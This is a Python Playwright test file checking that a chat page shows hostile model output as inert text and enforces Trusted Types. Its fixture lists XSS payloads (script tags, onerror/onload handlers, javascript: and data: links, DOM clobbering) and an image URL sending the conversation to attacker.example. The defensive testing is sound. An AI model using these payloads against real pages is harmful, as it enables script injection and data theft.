"""The text of a model is hostile: nothing in it runs, loads or hides on the page."""

from __future__ import annotations

import pytest
from playwright.sync_api import Error, Page, expect

from tests.page.acts import answered, ask
from tests.page.server import ChatServer, Text

pytestmark = [pytest.mark.slow, pytest.mark.variant, pytest.mark.xdist_group("chat-page")]

HOSTILE = """\
<img src=x onerror="window.hacked = 1"><script>window.hacked = 1</script>
<svg onload="window.hacked = 1"></svg><iframe srcdoc="<script>parent.hacked = 1</script>"></iframe>
<style>body { display: none }</style><form action="https://attacker.example/"><input name="key"></form>

![a picture](https://attacker.example/?stolen=conversation) ![x](javascript:window.hacked=1)

[script](javascript:window.hacked=1) [upper](JaVaScRiPt:window.hacked=1) [coded](&#106;avascript:window.hacked=1)
[data](data:text/html;base64,PHNjcmlwdD5oYWNrZWQ9MTwvc2NyaXB0Pg==) [local](/v1/models) [good](https://example.org/page "title")

| <b onmouseover=alert(1)>cell</b> | [x](vbscript:hacked) |
|:-:|--|
| 1 | 2 |

```"><img/src=x/onerror=hacked=1>
<script>window.hacked = 1</script>
```

# <a id="composer" name="message">clobbered</a>
"""


def test_hostile_markdown_stays_text(page: Page, server: ChatServer) -> None:
    server.script(Text([HOSTILE[start : start + 7] for start in range(0, len(HOSTILE), 7)]))
    ask(page, "<img src=x onerror=hacked=1> & <b>bold</b>")
    answer = answered(page, "clobbered")
    # The page of the fixture fails this test after any request to another server.
    for forbidden in (
        "img",
        "script",
        "iframe",
        "svg",
        "style",
        "form",
        "input",
        "b",
        "[id]:not(h2)",
        "[name]",
        "[style]",
        "[onerror]",
    ):
        expect(answer.locator(f".content {forbidden}")).to_have_count(0)
    addresses = answer.locator("a").evaluate_all(
        "links => links.map((link) => [link.getAttribute('href'), link.rel, link.target])"
    )
    safe = ["noopener noreferrer", "_blank"]
    plain = ["https://attacker.example/", "https://attacker.example/?stolen=conversation", "https://example.org/page"]
    assert addresses == [[address, *safe] for address in plain]
    expect(page.locator("#log .user .content")).to_have_text("<img src=x onerror=hacked=1> & <b>bold</b>")
    expect(answer.locator("pre code")).to_have_text("<script>window.hacked = 1</script>\n")
    expect(answer.locator("th").first).to_have_class("align-center")
    assert page.evaluate("() => window.hacked") is None
    expect(page.locator("#composer")).to_be_visible()


@pytest.mark.parametrize(
    ("code", "forbidden"),
    [
        ("document.body.innerHTML = '<img src=x>'", "TrustedHTML"),
        ("document.createElement('script').src = 'https://attacker.example/x.js'", "TrustedScriptURL"),
        ("document.body.setAttribute('onclick', 'window.hacked = 1')", "TrustedScript"),
        ("trustedTypes.createPolicy('mine', {createHTML: (text) => text})", "Policy"),
    ],
    ids=["html", "script", "handler", "policy"],
)
def test_no_code_on_the_page_can_turn_text_into_elements_or_scripts(page: Page, code: str, forbidden: str) -> None:
    with pytest.raises(Error, match=forbidden):
        page.evaluate(f"() => {{ {code}; }}")


def test_damaged_entries_of_the_storage_are_passed_over_and_kept(page: Page) -> None:
    kept = {
        "halcyon.chat.conversation.a": "{broken",
        "halcyon.chat.conversation.b": '{"id": "other", "title": "t", "created": 1, "updated": 1, "messages": []}',
        "halcyon.chat.conversation.c": '{"id": "c", "title": 5, "created": 1, "updated": 1, "messages": []}',
        "halcyon.chat.settings": '{"temperature": "hot", "maxTokens": -1, "theme": "<script>"}',
        "another.page": "data",
    }
    page.evaluate(
        "entries => { for (const [name, text] of Object.entries(entries)) localStorage.setItem(name, text); }", kept
    )
    page.reload()
    expect(page.get_by_label("Model")).to_be_enabled()
    expect(page.locator("#list li")).to_have_count(0)
    assert page.evaluate("() => ({...localStorage})") == kept
